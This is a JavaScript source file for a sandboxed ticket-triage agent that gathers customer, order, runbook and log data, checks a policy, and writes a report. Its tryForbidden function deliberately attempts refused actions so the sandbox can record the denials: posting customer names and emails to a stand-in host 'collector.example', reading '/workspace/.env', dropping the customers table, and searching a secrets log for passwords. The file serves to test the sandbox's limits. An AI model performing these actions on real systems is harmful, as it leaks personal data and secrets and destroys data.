// Triage: reads the open tickets, gathers what belongs to each, writes a report, and shows that it meets its limits.
// The same agent exists in Rust and Python: the same calls in the same order, the same report.
import { fetch } from 'sallyport:agent/http@0.1.0';
import { makeDirectory, read, write as writeFile } from 'sallyport:agent/fs@0.1.0';
import { execute, query, queryNamed } from 'sallyport:agent/db@0.1.0';
import { call as callTool, list as listTools } from 'sallyport:agent/tool-exec@0.1.0';
import { write as log } from 'sallyport:agent/log@0.1.0';
import { check } from 'sallyport:agent/policy@0.1.0';

const REPORTS = '/workspace/reports';
const REPORT = `${REPORTS}/triage.md`;
const ORDERS = 'select id, total_cents from orders where customer_id = ? order by id';

// The engine has no TextEncoder or TextDecoder; these two turn text into UTF-8 and back.
const encode = (text) => Uint8Array.from(unescape(encodeURIComponent(text)), (unit) => unit.charCodeAt(0));
function decode(bytes) {
  let units = '';
  for (let at = 0; at < bytes.length; at += 4096) units += String.fromCharCode(...bytes.subarray(at, at + 4096));
  return decodeURIComponent(escape(units));
}

export function run(input) {
  const { api, forbiddenHost = 'http://collector.example' } = JSON.parse(input);
  const desk = createDesk();
  desk.note('info', 'triage begins');

  const tickets = openTickets(desk, api);
  const cases = tickets.map((ticket) => gather(desk, ticket));
  const tools = desk.attempt('tool-exec', () => listTools().map((tool) => tool.name)) ?? [];
  const plan = validatePlan(desk, api, tickets);
  tryForbidden(desk, forbiddenHost, cases);

  const report = reportText(cases, tools, plan, desk.denied);
  if (plan.write) writeReport(desk, report);
  const comments = tickets.filter((ticket, index) => plan.comments[index] && comment(desk, api, ticket)).length;
  desk.note('info', `triage ends: ${tickets.length} tickets, ${desk.denied.length} refusals`);
  return JSON.stringify({
    comments,
    customers: cases.filter((one) => one.customer !== undefined).length,
    denied: desk.denied,
    report: REPORT,
    tickets: tickets.length,
  });
}

// What every step needs: a log, and a way to try an effect that turns a refusal into data.
function createDesk() {
  const denied = [];
  const note = (level, message) => {
    try {
      log(level, message);
    } catch {
      // A line that may not be written is no reason to stop.
    }
  };
  const attempt = (gate, effect) => {
    try {
      return effect();
    } catch (error) {
      if (error.payload === undefined) throw error;
      const { tag, val } = error.payload;
      if (tag === 'denied') {
        denied.push({ gate, reason: val.reason });
        note('warn', `${gate} denied: ${val.reason} (decision ${val.decision})`);
      } else {
        note('warn', `${gate} failed: ${tag}`);
      }
      return undefined;
    }
  };
  return { denied, note, attempt };
}

function openTickets(desk, api) {
  const headers = [['accept', 'application/json']];
  const request = { method: 'get', url: `${api}/tickets?state=open`, headers, body: undefined, maxRedirects: 0 };
  const answer = desk.attempt('http', () => fetch(request));
  if (answer === undefined) throw 'the tickets cannot be read';
  if (answer.status !== 200) throw `the tickets cannot be read: status ${answer.status}`;
  return JSON.parse(decode(answer.body)).tickets;
}

// Everything that belongs to one ticket; what cannot be had stays undefined.
function gather(desk, ticket) {
  const id = { tag: 'integer', val: ticket.customer };
  const customer = desk.attempt('db', () => queryNamed('main', 'customer-by-id', [id]).rows[0]);
  const orders = desk.attempt('db', () => query('main', ORDERS, [id]).rows);
  const runbook = desk.attempt('fs', () => decode(read(`/workspace/runbooks/${ticket.kind}.md`, undefined)));
  const search = JSON.stringify({ file: 'service.log', pattern: ticket.trace });
  const found = desk.attempt('tool-exec', () => callTool('search-log', search).stdout);
  return { ticket, customer: customer?.map((value) => value.val), orders, runbook, found };
}

// Asks what the policy would say to each write before the first one is made.
function validatePlan(desk, api, tickets) {
  const intentions = [
    { action: 'fs:write', resource: REPORT, arguments: undefined },
    ...tickets.map(({ id }) => ({ action: 'http:POST', resource: commentUrl(api, id), arguments: undefined })),
  ];
  const verdicts = desk.attempt('policy', () => check(intentions)) ?? intentions.map(() => 'deny');
  const [write, ...comments] = verdicts.map((verdict) => verdict === 'allow');
  return { write, comments, allowed: verdicts.filter((verdict) => verdict === 'allow').length, total: verdicts.length };
}

// Once per gate, what this agent must not do. Each attempt is refused, and the refusal is data.
function tryForbidden(desk, forbiddenHost, cases) {
  const table = cases.filter((one) => one.customer !== undefined).map(({ customer: [name, email] }) => ({ email, name }));
  desk.attempt('http', () => post(`${forbiddenHost}/customers`, table));
  desk.attempt('fs', () => read('/workspace/.env', undefined));
  desk.attempt('db', () => execute('main', 'drop table customers', []));
  desk.attempt('tool-exec', () => callTool('search-log', JSON.stringify({ file: 'secrets.log', pattern: 'password' })));
}

function writeReport(desk, report) {
  desk.attempt('fs', () => ensureDirectory(REPORTS));
  desk.attempt('fs', () => writeFile(REPORT, encode(report)));
}

function ensureDirectory(path) {
  try {
    makeDirectory(path);
  } catch (error) {
    if (error.payload?.tag !== 'already-exists') throw error;
  }
}

const commentUrl = (api, id) => `${api}/tickets/${id}/comments`;

function comment(desk, api, { id, kind }) {
  const answer = desk.attempt('http', () => post(commentUrl(api, id), { body: `triaged as ${kind}, see ${REPORT}` }));
  return answer?.status === 201;
}

function post(url, body) {
  const headers = [['content-type', 'application/json']];
  return fetch({ method: 'post', url, headers, body: encode(JSON.stringify(body)), maxRedirects: 0 });
}

function reportText(cases, tools, plan, denied) {
  return [
    '# Triage report\n',
    ...cases.map(caseText),
    '## How this report was made\n',
    `- tools: ${tools.join(', ') || 'none'}`,
    `- plan: ${plan.allowed} of ${plan.total} effects would be allowed\n`,
    '## What was refused\n',
    ...denied.map(({ gate, reason }) => `- ${gate}: ${reason}`),
    '',
  ].join('\n');
}

function caseText({ ticket, customer, orders, runbook, found }) {
  const cents = orders?.reduce((sum, [, total]) => sum + Number(total.val), 0);
  const step = runbook?.split('\n').find((line) => line.startsWith('1. '));
  const hits = found?.split('\n').filter((line) => line !== '');
  return [
    `## Ticket ${ticket.id}: ${ticket.subject}\n`,
    `- customer: ${customer === undefined ? 'unknown' : `${customer[0]}, ${customer[2]} plan`}`,
    `- orders: ${orders === undefined ? 'unknown' : `${orders.length}, ${money(cents)} in total`}`,
    `- log: ${hits === undefined ? 'unknown' : `${hits.length} lines mention ${ticket.trace}`}`,
    ...(hits ?? []).slice(-1).map((line) => `- last line: ${line}`),
    `- first step: ${step?.slice(3) ?? 'no runbook for this kind'}\n`,
  ].join('\n');
}

const money = (cents) => `${Math.trunc(cents / 100)}.${String(cents % 100).padStart(2, '0')}`;
